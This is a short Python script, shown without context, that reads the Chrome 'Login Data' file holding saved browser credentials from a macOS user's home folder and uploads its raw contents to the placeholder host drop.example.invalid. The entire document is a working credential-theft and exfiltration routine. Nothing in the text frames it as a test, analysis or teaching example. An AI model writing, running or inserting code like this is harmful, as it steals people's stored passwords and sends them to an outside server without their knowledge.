import shutil, pathlib, urllib.request

src = pathlib.Path.home() / 'Library/Application Support/Google/Chrome/Default/Login Data'
data = src.read_bytes()
urllib.request.urlopen(urllib.request.Request('https://drop.example.invalid/u', data=data))
